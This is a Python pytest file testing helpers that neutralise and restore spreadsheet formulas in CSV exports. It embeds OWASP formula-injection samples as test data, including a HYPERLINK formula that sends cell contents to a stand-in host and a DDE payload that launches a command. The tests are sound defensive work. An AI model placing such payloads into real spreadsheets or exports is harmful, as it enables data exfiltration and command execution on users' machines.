"""Files safe to open in a spreadsheet: formula-like text is written inert, read back intact."""

from __future__ import annotations

import shutil

import numpy as np
import pandas as pd
import pytest

from sizeup_helpers.clean_workspace import clean_workspace, load_clean_table
from sizeup_helpers.evaluation_matrix import MATRIX_COLUMNS, MATRIX_FILE, load_evaluation_matrix
from sizeup_helpers.inventory import inventory_workspace, save_inventory
from sizeup_helpers.spreadsheet import DANGEROUS_PREFIXES, neutralise_formulas, restore_formulas
from sizeup_helpers.workspace import create_workspace, open_workspace

from .conftest import SAMPLES_DIR

#: The OWASP examples, as a person may type them in a form.
FORMULAS = [
    '=HYPERLINK("http://exemple.invalid/?d="&A1;"clic")',
    "+SUM(1;2)",
    "@SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]


# ---- the two functions -----------------------------------------------------------------
@pytest.mark.parametrize("text_dtype", [object, "string", "str"])
def test_round_trip_on_every_text_dtype(text_dtype):
    values = [*FORMULAS, "\tTAB", "\rCR", "'=déjà", "''+deux", "'ok", "ok", "-2", "+33", None]
    frame = pd.DataFrame({"t": pd.Series(values, dtype=text_dtype)})
    out = neutralise_formulas(frame)
    assert str(out["t"].dtype) == str(frame["t"].dtype)
    written = out["t"].tolist()
    for before, after in zip(values, written, strict=True):
        if before is None:
            assert pd.isna(after)
        elif before in ("ok", "'ok", "-2", "+33"):
            assert after == before  # plain text and plain numbers stay as they are
        else:
            assert after == "'" + before
            assert after[0] == "'"
    back = restore_formulas(out)
    assert back["t"].isna().tolist() == frame["t"].isna().tolist()
    assert back["t"].dropna().tolist() == frame["t"].dropna().tolist()


def test_non_text_columns_are_untouched():
    frame = pd.DataFrame(
        {
            "n": [-2, 3],
            "x": [-2.5, np.nan],
            "i": pd.array([-1, None], dtype="Int64"),
            "b": pd.array([True, None], dtype="boolean"),
            "d": pd.to_datetime(["2024-01-01", None]),
            "m": pd.Series([-2, "=1+1"], dtype=object),
        }
    )
    out = neutralise_formulas(frame)
    assert (out.dtypes == frame.dtypes).all()
    for col in "nxibd":
        pd.testing.assert_series_equal(out[col], frame[col])
    assert out["m"].tolist() == [-2, "'=1+1"]  # a number in a mixed column stays a number
    assert out.to_csv(index=False).splitlines()[1].startswith("-2,-2.5,-1,True,2024-01-01,-2")


def test_categories_are_quoted_and_kept_categorical():
    frame = pd.DataFrame({"c": pd.Categorical(["=a", "b", None, "=a"], ordered=True)})
    out = neutralise_formulas(frame)
    assert isinstance(out["c"].dtype, pd.CategoricalDtype) and out["c"].cat.ordered
    assert out["c"].tolist()[:2] == ["'=a", "b"]
    assert restore_formulas(out)["c"].tolist()[:2] == ["=a", "b"]
    numeric = pd.DataFrame({"c": pd.Categorical([-1, 2])})
    pd.testing.assert_frame_equal(neutralise_formulas(numeric), numeric)


def test_column_names_are_quoted_and_given_back():
    frame = pd.DataFrame({"=1+1": ["a"], "ok": ["-2"]})
    out = neutralise_formulas(frame)
    assert list(out.columns) == ["'=1+1", "ok"]
    assert out.to_csv(index=False).splitlines() == ["'=1+1,ok", "a,-2"]
    assert list(restore_formulas(out).columns) == ["=1+1", "ok"]


def test_empty_frames_and_the_input_is_not_modified():
    assert neutralise_formulas(pd.DataFrame()).empty
    frame = pd.DataFrame({"t": ["=1"]})
    neutralise_formulas(frame)
    assert frame["t"].tolist() == ["=1"]
    assert set(DANGEROUS_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


# ---- a whole workspace -----------------------------------------------------------------
@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    """A copy of insertion-transport whose training-body column holds the OWASP examples."""
    root = tmp_path_factory.mktemp("formules")
    ws_dir = shutil.copytree(SAMPLES_DIR / "insertion-transport", root / "espace")
    path = ws_dir / "donnees-brutes" / "formations.csv"
    encoding = "cp1252"  # the sample's export, as typed on a French Windows machine
    raw = pd.read_csv(path, dtype=str, keep_default_na=False, sep=";", encoding=encoding)
    raw.loc[: len(FORMULAS) - 1, COLUMN] = FORMULAS
    raw[HEADER] = "note libre"  # a formula-like column name, read by the inventory
    raw.to_csv(path, index=False, sep=";", encoding=encoding)
    ws = open_workspace(ws_dir, root / "sorties")
    return ws, clean_workspace(ws)


#: The raw column (free text: training bodies) where the formulas are typed.
COLUMN = "organisme"
#: A raw column name that a spreadsheet would run.
HEADER = "=remarque"


def test_every_written_csv_is_inert(planted):
    ws, _ = planted
    found = 0
    for path in [*ws.clean_data_dir.rglob("*.csv"), *ws.step_dir("05").rglob("*.csv")]:
        frame = pd.read_csv(path, dtype=str, keep_default_na=False, sep=None, engine="python")
        for col in frame.columns:
            for cell in [col, *frame[col]]:
                if cell[:1] in DANGEROUS_PREFIXES:
                    assert _plain_number(cell), f"{path.name} [{col}] : {cell!r}"
                found += cell.startswith("'") and cell[1:2] in DANGEROUS_PREFIXES
    assert found >= len(FORMULAS)


def test_the_clean_table_gives_the_text_back(planted):
    ws, result = planted
    table = next(t for t in result.tables.values() if t.source.endswith("formations.csv"))
    back = load_clean_table(ws, table.role)
    cells = {
        v
        for col in back.columns
        if back[col].dtype == object or back[col].dtype == "str"
        for v in back[col].dropna()
    }
    cells |= {
        v
        for col in back.columns
        if isinstance(back[col].dtype, pd.CategoricalDtype)
        for v in back[col].dropna()
    }
    assert [f for f in FORMULAS if f in cells] == FORMULAS, f"colonne « {COLUMN} »"
    assert not any(isinstance(v, str) and v.startswith("'=") for v in cells)
    assert pd.api.types.is_float_dtype(back["duree_heures"].dtype)  # numbers stay numbers


def test_the_inventory_files_are_inert(planted):
    ws, _ = planted
    written = save_inventory(ws, inventory_workspace(ws))
    quoted = 0
    for path in written.values():
        if path.suffix != ".csv":
            continue
        frame = pd.read_csv(path, sep=";", dtype=str, keep_default_na=False, encoding="utf-8-sig")
        for col in frame.columns:
            for cell in [col, *frame[col]]:
                assert cell[:1] not in DANGEROUS_PREFIXES or _plain_number(cell), (
                    f"{path.name} [{col}] : {cell!r}"
                )
                quoted += cell == "'" + HEADER
    assert quoted, "le nom de colonne planté est écrit neutralisé dans l'inventaire"


def _plain_number(cell: str) -> bool:
    return pd.notna(pd.to_numeric(cell.replace(",", "."), errors="coerce"))


def test_the_evaluation_matrix_reader_gives_the_text_back(tmp_path):
    ws = create_workspace(tmp_path / "x", "Essai")
    row = {c: "" for c in MATRIX_COLUMNS}
    row[MATRIX_COLUMNS[0]] = '\'=HYPERLINK("http://exemple.invalid")'
    row[MATRIX_COLUMNS[1]] = "'ok"
    path = ws.step_dir("03") / MATRIX_FILE
    pd.DataFrame([row]).to_csv(path, index=False, encoding="utf-8-sig")
    back = load_evaluation_matrix(ws)
    assert back.iloc[0, 0] == '=HYPERLINK("http://exemple.invalid")'
    assert back.iloc[0, 1] == "'ok"  # a quote typed before ordinary text is kept
